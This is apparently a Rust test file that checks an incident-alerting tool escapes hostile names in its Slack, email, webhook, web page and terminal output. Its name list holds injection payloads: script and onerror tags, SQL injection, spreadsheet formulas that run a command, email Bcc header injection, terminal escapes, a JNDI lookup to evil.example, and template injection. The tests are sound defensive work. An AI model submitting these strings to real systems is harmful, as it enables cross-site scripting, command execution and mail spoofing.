//! P16: names are data, not markup: a hostile corpus through Slack, mail, webhook, page, terminal.

use truecount::incident::Incident;
use truecount::model::Name;
use truecount::notify::{Notification, Reason};
use truecount::plan::Plan;
use truecount::render;

use super::super::made::{self, at};

/// Each would do harm somewhere if it were taken for more than a name.
const NAMES: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; DROP TABLE incident; --",
    "<!channel> <!here> <@U0MARA> <#C0>",
    "<https://evil.example|Click here>",
    "*bold* _it_ `code` ~gone~ ```block```",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "=HYPERLINK(\"https://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\t=1",
    "\r=1",
    "a\r\nBcc: victim@example.com\r\n\r\nbody",
    "a\nb\rc\u{0}d\u{1b}[31mred\u{7}",
    "\u{202e}gnp.exe\u{2066}x\u{200b}\u{feff}",
    "\u{2028}line\u{2029}paragraph",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %} <%= 7 %>",
    "javascript:alert(1)",
    "\"} 1\ntruecount_fake{x=\"",
    "\\\"\\n\\u0000",
    "=?UTF-8?Q?=0D=0ABcc:_x@y.z?=",
    "</title></style></head><body onload=x>",
    "👩‍👩‍👧‍👦 ǅ ﬁ İ ı ß 𝔘",
    "",
    " ",
];

pub(super) fn all() -> Vec<String> {
    let mut names: Vec<String> = NAMES.iter().map(|name| (*name).to_owned()).collect();
    names.push("x".repeat(100_000));
    names.push("<".repeat(5_000));
    names.push("\u{1f4a5}".repeat(3_000));
    names
}

/// An incident in which every name is the hostile one.
fn hostile(text: &str) -> (Plan, Incident) {
    let mut plan = made::plan("");
    let name = Name::clean(text);
    let mut one = made::opened(&plan, "purchase.volume", "web", 1, at("2026-10-21 10:00"));
    one.check = name.clone();
    one.event = Some(name.clone());
    one.source = Some(name.clone());
    one.owner = Some(name.clone());
    one.members = vec![name.clone()];
    one.acknowledged = Some((name.as_str().to_owned(), at("2026-10-21 10:00")));
    plan.project.name = name;
    (plan, one)
}

fn told(one: &Incident, text: &str) -> Notification {
    Notification {
        route: Name::clean(text),
        channel: Name::clean(text),
        reason: Reason::Opened,
        n: 0,
        incidents: vec![one.clone()],
        at: at("2026-10-21 10:00"),
        remark: Name::clean(text).as_str().to_owned(),
    }
}

/// Markup that no text of ours contains: tags and attributes that run something.
fn is_live(html: &str) -> bool {
    let html = html.to_ascii_lowercase();
    [
        "<script",
        "<img src=x",
        "onerror=alert(1)>",
        "<body onload",
        "</title></style>",
        "href=\"javascript:",
    ]
    .iter()
    .any(|bad| html.contains(bad))
}

/// Texts that Slack reads as markup; it shows `plain_text` as it is.
fn markup(value: &serde_json::Value, found: &mut Vec<String>) {
    match value {
        serde_json::Value::Object(map) if map.get("type").is_some_and(|it| it == "plain_text") => {}
        serde_json::Value::Object(map) => map.values().for_each(|one| markup(one, found)),
        serde_json::Value::Array(list) => list.iter().for_each(|one| markup(one, found)),
        serde_json::Value::String(text) => found.push(text.clone()),
        _ => {}
    }
}

#[test]
fn no_name_escapes_into_slack() {
    for text in all() {
        let (plan, one) = hostile(&text);
        let message = render::slack::message(&plan, &told(&one, &text));
        let mut read = Vec::new();
        markup(&message, &mut read);
        assert!(read.len() > 3);
        let (read, message) = (read.join("\n"), message.to_string());
        for bad in [
            "<!channel",
            "<!here",
            "<@U0MARA> <#C0",
            "<https://evil.example|",
        ] {
            assert!(!read.contains(bad), "{text:?}: {read}");
        }
        assert!(message.len() < 40_000, "{}", message.len());
    }
}

#[test]
fn no_name_escapes_into_mail() {
    for text in all() {
        let (plan, one) = hostile(&text);
        let mail = render::mail::write(&plan, &told(&one, &text));
        assert!(!is_live(&mail.html), "{text:?}: {}", mail.html);
        assert!(
            !mail.subject.contains(['\r', '\n', '\0']),
            "{:?}",
            mail.subject
        );
        for bad in ['\r', '\0', '\u{1b}', '\u{202e}', '\u{7}'] {
            assert!(!mail.text.contains(bad), "{text:?}: {:?}", mail.text);
        }
    }
}

#[test]
fn no_name_escapes_into_the_webhook_or_the_page() {
    for text in all() {
        let (plan, one) = hostile(&text);
        let body = render::webhook::body(&plan, &told(&one, &text)).to_string();
        let back: serde_json::Value = serde_json::from_str(&body).unwrap();
        assert_eq!(back["data"]["event"], Name::clean(&text).as_str());
        let now = at("2026-10-21 10:00");
        let history = render::history::History::of(&[], &[]);
        let shown = render::page::IncidentPage {
            plan: &plan,
            incident: &one,
            history: &history,
            members: &[],
            letters: &[],
            silences: &[],
            now,
        };
        let frame = render::page::Frame::new(&plan, now, render::page::Hand::Nobody);
        let page = render::page::incident(frame, &shown);
        assert!(!is_live(&page), "{text:?}: {page}");
        let terminal = render::terminal::incident(&plan, &one, at("2026-10-21 10:00"), false);
        for bad in ['\r', '\0', '\u{1b}', '\u{202e}', '\u{7}'] {
            assert!(!terminal.contains(bad), "{text:?}: {terminal:?}");
        }
    }
}
